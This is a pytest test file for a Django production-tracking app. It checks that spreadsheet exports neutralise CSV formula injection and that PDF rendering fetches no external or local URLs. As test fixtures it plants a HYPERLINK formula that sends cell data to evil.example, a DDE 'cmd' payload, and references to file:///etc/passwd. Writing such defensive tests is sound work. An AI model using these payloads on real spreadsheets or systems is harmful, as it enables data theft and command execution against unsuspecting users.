"""Every file the product writes for spreadsheets neutralises formulas, and PDFs fetch nothing.

A cell that starts with = + - @, a tab or a carriage return runs as a formula when the file is
opened in Excel, LibreOffice or Google Sheets (CSV injection). Each export below gets values
planted in fields a user types, and the downloaded file must show them as text (a leading ').
The exports: the production's AI-use register (CSV page), the report's CSV rendering, the credit
package's TSV. (The performer's personal-data export is JSON, read by programs, not
spreadsheets; imports write no error file — their errors are shown on the page and in the API.)

PDFs (the report's and the credit statement) are rendered by WeasyPrint with a URL fetcher that
fetches ``data:`` URLs only: a local HTTP server records any request the renderer makes.
"""

import csv
import datetime
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from studio_tracker.lib.safe_csv import FORMULA_STARTS
from studio_tracker.reports import compiler, credits, review
from studio_tracker.reports.models import Report
from studio_tracker.reports.renderings import data_only_fetcher
from studio_tracker.usage import entries, tools

pytestmark = pytest.mark.django_db

# What a hostile or careless user types into free-text fields.
DESCRIPTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for the cut")'
VENDOR = "@SUM(1+1)*cmd|' /C calc'!A0"
EXTERNAL_REF = "+1-555-0100"
HUMAN_CONTRIBUTION = "-2+3 artists repainted every frame"
TOOL_NAME = "=1+1 Upscaler"


class Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A local web server that records every request: nothing should reach it."""
    Recorder.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def planted(cast, settings, tmp_path, listener):
    """A final-picture use of production A whose typed fields start like formulas (and whose
    description carries markup pointing at the listener)."""
    settings.MEDIA_ROOT = tmp_path
    tool = tools.add_tool(
        actor=cast.cam,
        organization=cast.northlight,
        name=TOOL_NAME,
        vendor="Forge Labs",
        modalities=["image"],
        kind="generative",
    )
    return entries.log_usage(
        actor=cast.pat,
        production=cast.production_a,
        shot=cast.shot_a,
        department="vfx",
        category="set_extension",
        modality="image",
        tool=tool,
        disposition="final_key",
        used_on=datetime.date(2025, 3, 2),
        vendor=VENDOR,
        description=f'{DESCRIPTION} <img src="{listener}/pixel.png">'
        f'<link rel="stylesheet" href="{listener}/x.css"> <img src="file:///etc/passwd">',
        human_contribution=HUMAN_CONTRIBUTION,
        external_ref=EXTERNAL_REF,
    )


def cells_of(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(cells: list[str], *planted: str) -> None:
    running = [cell for cell in cells if cell.lstrip("\ufeff").startswith(FORMULA_STARTS)]
    assert running == [], f"cells a spreadsheet would run: {running}"
    for value in planted:
        assert any(cell.startswith("'" + value[:12]) for cell in cells), (value, cells)


def test_the_register_csv_neutralises_formulas(client, cast, planted):
    client.force_login(cast.pat)
    response = client.get(f"/productions/{cast.production_a.pk}/register.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert_neutralised(cells_of(text), DESCRIPTION, EXTERNAL_REF, TOOL_NAME)


@pytest.fixture
def approved(cast, planted):
    report = compiler.request_compile(actor=cast.pat, production=cast.production_a)
    assert compiler.compile_report(report.pk) is True
    compiler.render_files(report.pk)  # the HTML and PDF (a task of their own in production)
    report = compiler.submit(Report.objects.get(pk=report.pk), actor=cast.pat)
    report = review.approve(report, actor=cast.cam, override_reason="Checked by legal.")
    assert {c.format for c in credits.build_package(report)} >= {"tsv", "pdf"}
    return Report.objects.get(pk=report.pk)


def test_the_report_csv_neutralises_formulas(api, cast, approved):
    response = api.as_user(cast.pat).get(f"/api/v1/reports/{approved.pk}/download/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert_neutralised(cells_of(text), DESCRIPTION, VENDOR, EXTERNAL_REF, TOOL_NAME)


def test_the_credit_tsv_neutralises_formulas(api, cast, approved):
    response = api.as_user(cast.dina).get(f"/api/v1/credits/{approved.pk}/download/?format=tsv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert_neutralised(cells_of(text, delimiter="\t"), VENDOR)


def test_the_pdfs_fetched_nothing_while_rendering(approved, listener):
    """The report and credit PDFs of a use whose text points at a web server and a local file
    were rendered (they are stored) without one request reaching the server."""
    assert approved.renderings.filter(format="pdf").exists()
    assert approved.credit_files.filter(format="pdf").exists()
    assert Recorder.hits == []


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/pixel.png",
        "https://fonts.example/font.woff2",
        "file:///etc/passwd",
        "ftp://example.org/x.css",
        "//example.org/x.css",
        "static/css/report-pdf.css",
    ],
)
def test_the_pdf_url_fetcher_refuses_everything_but_data_urls(url):
    with pytest.raises(ValueError, match="fetches nothing"):
        data_only_fetcher().fetch(url)


def test_the_pdf_url_fetcher_reads_data_urls():
    fetched = data_only_fetcher().fetch("data:text/css;base64,Ym9keXt9")
    assert fetched.read() == b"body{}"


def test_markup_that_slipped_through_still_fetches_nothing(listener):
    """Even raw HTML (were escaping ever lost) with images, stylesheets, @import and url() to the
    web and to local files renders to a PDF without a single request."""
    weasyprint = pytest.importorskip("weasyprint")
    html = f"""
      <html><head>
        <link rel="stylesheet" href="{listener}/sheet.css">
        <style>@import url("{listener}/import.css");
               body {{ background: url("{listener}/bg.png"); }}
               p {{ background: url("file:///etc/passwd"); }}</style>
      </head><body>
        <p>Credits</p><img src="{listener}/pixel.png"><img src="file:///etc/passwd">
        <object data="{listener}/object.svg"></object>
      </body></html>"""
    pdf = weasyprint.HTML(string=html, url_fetcher=data_only_fetcher(), base_url=None).write_pdf()
    assert pdf.startswith(b"%PDF")
    assert Recorder.hits == []
